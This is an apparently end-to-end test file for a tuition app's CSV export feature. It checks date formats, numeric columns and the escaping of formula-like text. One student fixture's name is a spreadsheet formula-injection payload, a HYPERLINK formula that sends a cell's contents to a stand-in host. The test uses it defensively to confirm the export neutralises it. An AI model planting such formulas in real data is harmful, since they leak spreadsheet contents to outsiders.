/**
 * The CSV exports as a spreadsheet reads them (docs/csv.md), downloaded through the lists'
 * 'Export CSV' button in Chromium: one date format in every list (ISO 8601 `yyyy-MM-dd`, in
 * English and Spanish alike), amounts and counts as plain numbers, both prices of a subject, and
 * text that would start a formula still marked so that it never runs.
 */
import Papa from 'papaparse';
import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createAccount,
  deleteAccount,
  removePaths,
  uniqueEmail,
  uniqueId,
  writeRecords,
  type TestAccount,
} from '../support/backend';
import { closeBrowser, gotoInApp, signedInPage } from '../support/browser';
import { removeWithDerived, writeWithDerived } from '../integration/derivedFixtures';
import { studentRecord } from '../integration/peopleFixtures';
import { orderRecord } from '../support/orderFixture';

const DAY = 86_400_000;
/** 21 Nov 2026, midday UTC: the same calendar day in every time zone a test machine uses. */
const CREATED = Date.UTC(2026, 10, 21, 12);
const EXPIRES = Date.UTC(2027, 0, 5, 12);
const token = uniqueId('csv');
const orderId = `-${token}`.slice(0, 24);
const studentId = uniqueId('csv-student');
const subjectId = uniqueId('csv-subject');
let admin: TestAccount;

beforeAll(async () => {
  admin = await createAccount({ email: uniqueEmail('csv-admin'), isAdmin: true });
  await writeWithDerived({
    orders: {
      [orderId]: orderRecord(orderId, CREATED, {
        studentName: `Child ${token}`,
        studentEmail: 'parent@tuition.test',
        tutorName: 'Tutor',
        tutorEmail: 'tutor@tuition.test',
        status: 'approved',
        isUsed: true,
        qty: 8,
        qtyLeft: 3,
        expiredDate: EXPIRES,
        updatedAt: CREATED + DAY,
      }),
    },
    students: {
      [studentId]: {
        ...studentRecord(`=HYPERLINK("http://x/?"&A1,"${token}")`),
        id: studentId,
        email: `${token}@tuition.test`.toLowerCase(),
        mobile: '+65 9123 4567',
        createdAt: CREATED,
      },
    },
  });
  await writeRecords({
    [`subjects/${subjectId}`]: {
      name: `Subject ${token}`,
      levelStart: '',
      levelEnd: '',
      countryId: 'SG',
      isObsolete: false,
      order: 0,
      createdAt: CREATED,
      settings: {
        originalPrice: 40,
        salePrice: 36,
        minimumQRPurchase: 4,
        multipleQtyRestriction: 2,
        expiryMultiplier: 7,
        expiryDays: 30,
        expiryPrice: 15,
      },
    },
  });
});

afterAll(async () => {
  await closeBrowser();
  await removeWithDerived({ orders: [orderId], students: [studentId] });
  await removePaths(`subjects/${subjectId}`);
  if (admin) await deleteAccount(admin.uid);
});

/** Opens `path` searched for `query`, exports it, and returns its rows as records by column. */
async function exportOf(p: Page, path: string, query: string, button: string) {
  await gotoInApp(p, `${path}?q=${encodeURIComponent(query)}`);
  const exportButton = p.getByRole('button', { name: button });
  await expect.poll(() => exportButton.isEnabled(), { timeout: 30_000 }).toBe(true);
  const [download] = await Promise.all([p.waitForEvent('download'), exportButton.click()]);
  const text = await readFile((await download.path())!, 'utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<Record<string, string>>(text.slice(1), { header: true });
  return { rows: parsed.data, raw: text };
}

describe('CSV exports', () => {
  it.each([
    [
      'en',
      'Export CSV',
      { id: 'Order ID', created: 'Created', expiry: 'Expiry date', total: 'Total' },
    ],
    [
      'es',
      'Exportar CSV',
      { id: 'ID del pedido', created: 'Creado', expiry: 'Fecha de caducidad', total: 'Total' },
    ],
  ])('%s: orders with ISO dates and numbers', async (locale, button, columns) => {
    const p = await signedInPage(admin, { locale, inApp: true });
    const { rows, raw } = await exportOf(p, '/orders', orderId, button);
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    expect(row[columns.created]).toBe('2026-11-21');
    expect(row[columns.expiry]).toBe('2027-01-05');
    expect(row[columns.total]).toBe('240.5');
    // Numbers unquoted, so a spreadsheet reads them as numbers; the two counts apart.
    expect(raw).toMatch(/,240\.5,3,8,2026-11-21\r?\n?$/);
    // An id starting with '-' would be a formula in Excel and Google Sheets: still marked.
    expect(row[columns.id]).toBe(`'${orderId}`);
  });

  it('students: the same date format, the formula in a name marked', async () => {
    const p = await signedInPage(admin, { inApp: true });
    const { rows } = await exportOf(p, '/students', token.toLowerCase(), 'Export CSV');
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    expect(Object.values(row)).toContain('2026-11-21');
    expect(Object.values(row).some((v) => /T\d\d:/.test(v))).toBe(false);
    expect(Object.values(row)).toContain(`'=HYPERLINK("http://x/?"&A1,"${token}")`);
  });

  it('subjects: the original and the sale price, as numbers', async () => {
    const p = await signedInPage(admin, { inApp: true });
    const { rows, raw } = await exportOf(p, '/subjects', `Subject ${token}`, 'Export CSV');
    expect(rows).toHaveLength(1);
    expect(rows[0]!['Original price']).toBe('40');
    expect(rows[0]!['Sale price']).toBe('36');
    expect(raw).toMatch(/,40,36(,|\r?\n?$)/);
  });
});
